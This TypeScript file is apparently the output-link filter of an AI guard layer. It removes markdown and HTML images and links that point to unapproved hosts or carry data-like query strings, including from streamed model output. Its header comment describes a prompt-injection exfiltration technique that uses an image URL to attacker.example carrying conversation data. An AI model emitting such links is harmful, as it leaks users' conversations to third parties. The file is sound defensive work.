import type { OutputLinksConfig } from "../policy/containment-schema.js";

/**
 * Output exfiltration: an injected instruction can make a model write
 * `![](https://attacker.example/p?d=<conversation data>)`, and a chat UI that renders markdown
 * fetches the image, sending the data without a click. Links work the same way with one click.
 * This removes markdown images and links (and HTML images) that point outside the allowed domains
 * or carry data-like query strings: an image disappears, a link keeps its text without the URL.
 */

/** Inline markdown image or link: `![alt](url "title")`, `[text](<url>)`. Bounded, so linear. */
const MD_LINK =
  /(!?)\[([^[\]\n]{0,500})\]\(\s*<?((?:[^\s()<>]|\([^\s()<>]{0,256}\)){0,2048})>?(?:\s+(?:"[^"\n]{0,300}"|'[^'\n]{0,300}'))?\s*\)/g;
/** HTML image: `<img src="…">`. */
const HTML_IMG = /<img\b[^<>]{0,2048}>/gi;
const SRC = /\bsrc\s*=\s*(?:"([^"]*)"|'([^']*)'|([^\s>]+))/i;

/** The longest construct held back in a stream while it may still be forming. */
export const MAX_LINK_HOLD = 3200;

export class LinkPolicy {
  private readonly hosts: RegExp[];

  constructor(readonly config: OutputLinksConfig) {
    this.hosts = config.allow_domains.map(hostGlob);
  }

  get active(): boolean {
    return this.config.enabled;
  }

  /** Whether a link (or an image) to `url` must be removed. */
  mustRemove(url: string, image: boolean): boolean {
    const c = this.config;
    const u = parseUrl(url);
    if (!u) return false; // relative: the application's own origin
    if (u.scheme !== "http" && u.scheme !== "https") {
      // javascript:, data:, vbscript: links do harm on a click; mailto: carries its query as data.
      if (u.scheme === "mailto") return c.data_queries === "strip" && hasDataQuery(u.query);
      return true;
    }
    if (c.data_queries === "strip" && hasDataQuery(u.query)) return true;
    const allowed = this.allowedHost(u.host);
    if (image) return c.images === "strip" && !allowed;
    return this.hosts.length > 0 && !allowed;
  }

  allowedHost(host: string): boolean {
    return this.hosts.some((re) => re.test(host));
  }

  /** `text` with every removable link and image taken out; `removed` counts them. */
  strip(text: string): { text: string; removed: number } {
    if (!this.active || (!text.includes("](") && !(text.includes("<") && /<img/i.test(text))))
      return { text, removed: 0 };
    let removed = 0;
    let out = text.replace(MD_LINK, (all, bang: string, label: string, url: string) => {
      if (!this.mustRemove(url, bang === "!")) return all;
      removed++;
      return bang === "!" ? "" : label;
    });
    out = out.replace(HTML_IMG, (tag) => {
      const m = SRC.exec(tag);
      const url = m ? (m[1] ?? m[2] ?? m[3] ?? "") : "";
      if (!this.mustRemove(url, true)) return tag;
      removed++;
      return "";
    });
    return { text: out, removed };
  }
}

function hostGlob(glob: string): RegExp {
  let src = "";
  for (const ch of glob.toLowerCase()) {
    if (ch === "*") src += "[a-z0-9.-]*";
    else if (ch === "?") src += "[a-z0-9-]";
    else src += ch.replace(/[.*+?^${}()|[\]\\/]/g, "\\$&");
  }
  return new RegExp(`^${src}$`);
}

interface ParsedUrl {
  scheme: string;
  host: string;
  query: string;
}

function parseUrl(raw: string): ParsedUrl | null {
  const url = raw.trim();
  const m = /^([a-z][a-z0-9+.-]*):/i.exec(url);
  if (!m) {
    // Protocol-relative //host/path goes to another host just the same.
    if (url.startsWith("//")) return parseUrl("https:" + url);
    return null;
  }
  const scheme = m[1]!.toLowerCase();
  if (scheme !== "http" && scheme !== "https") {
    const q = url.indexOf("?");
    return { scheme, host: "", query: q === -1 ? "" : url.slice(q + 1) };
  }
  try {
    const u = new URL(url);
    return { scheme, host: u.hostname.toLowerCase().replace(/\.$/, ""), query: u.search.slice(1) };
  } catch {
    // Not a URL a browser would fetch either; treat it as foreign so it is judged strictly.
    return { scheme, host: "", query: url };
  }
}

/** True when any query parameter value (or a bare query) looks like data rather than a setting. */
export function hasDataQuery(query: string): boolean {
  if (!query) return false;
  for (const pair of query.split(/[&;]/)) {
    const eq = pair.indexOf("=");
    const raw = eq === -1 ? pair : pair.slice(eq + 1);
    if (looksLikeData(decode(raw))) return true;
  }
  return false;
}

function decode(s: string): string {
  try {
    return decodeURIComponent(s.replace(/\+/g, " "));
  } catch {
    return s;
  }
}

/**
 * Settings are short words and numbers (page=2, lang=en, utm_source=newsletter); data is long,
 * tokens, sentences, e-mail addresses, long digit runs or encoded blobs.
 */
export function looksLikeData(v: string): boolean {
  if (v.length >= 40) return true;
  if (v.includes("@")) return true;
  if (/\d{7,}/.test(v)) return true;
  if (/\s/.test(v.trim()) && v.trim().split(/\s+/).length >= 3) return true;
  if (v.length >= 16 && /^[A-Za-z0-9+/_=-]+$/.test(v) && /\d/.test(v) && /[A-Za-z]/.test(v)) return true;
  // Placeholders and redaction markers in a URL mean the model put conversation content there.
  if (/\[[A-Z_]+_\d+\]/.test(v)) return true;
  return false;
}

/**
 * Where a markdown link or image (or an HTML image tag) that is still being written begins in
 * `text`, or -1. A stream holds text from there until the construct is complete, so a link split
 * across chunks is judged whole.
 */
export function openLinkStart(text: string): number {
  let best = -1;
  const b = text.lastIndexOf("[");
  if (b !== -1 && text.length - b <= MAX_LINK_HOLD) {
    const rest = text.slice(b);
    const close = rest.indexOf("]");
    let open = false;
    if (close === -1) open = !rest.includes("\n") && rest.length <= 502;
    else if (close === rest.length - 1) open = true;
    else if (rest[close + 1] === "(") open = parenOpen(rest, close + 2);
    if (open) best = b > 0 && text[b - 1] === "!" ? b - 1 : b;
  }
  // A trailing "!" may become an image once its "[" arrives.
  if (best === -1 && text.endsWith("!")) best = text.length - 1;
  const lt = text.lastIndexOf("<");
  if (lt !== -1 && text.length - lt <= MAX_LINK_HOLD && !text.includes(">", lt)) {
    const head = text.slice(lt, lt + 4).toLowerCase();
    if ("<img".startsWith(head) || head === "<img") best = best === -1 ? lt : Math.min(best, lt);
  }
  return best;
}

/** Whether the URL part starting at `from` (just after its "(") is still unclosed. */
function parenOpen(s: string, from: number): boolean {
  let depth = 1;
  for (let i = from; i < s.length; i++) {
    const c = s[i];
    if (c === "\n") return false;
    if (c === "(") depth++;
    else if (c === ")" && --depth === 0) return false;
  }
  return true;
}

/** Link stripping over a stream: holds a construct that may still be forming, strips the rest. */
export class StreamLinkStripper {
  private pending = "";
  removed = 0;

  constructor(private readonly policy: LinkPolicy) {}

  push(text: string): string {
    // Most chunks are plain words: nothing to hold and nothing to strip.
    if (!this.pending && !/[[!<]/.test(text)) return text;
    this.pending += text;
    const at = openLinkStart(this.pending);
    const cut = at === -1 ? this.pending.length : at;
    const ready = this.pending.slice(0, cut);
    this.pending = this.pending.slice(cut);
    return this.run(ready);
  }

  end(): string {
    const rest = this.pending;
    this.pending = "";
    return this.run(rest);
  }

  private run(text: string): string {
    if (!text) return "";
    const r = this.policy.strip(text);
    this.removed += r.removed;
    return r.text;
  }
}
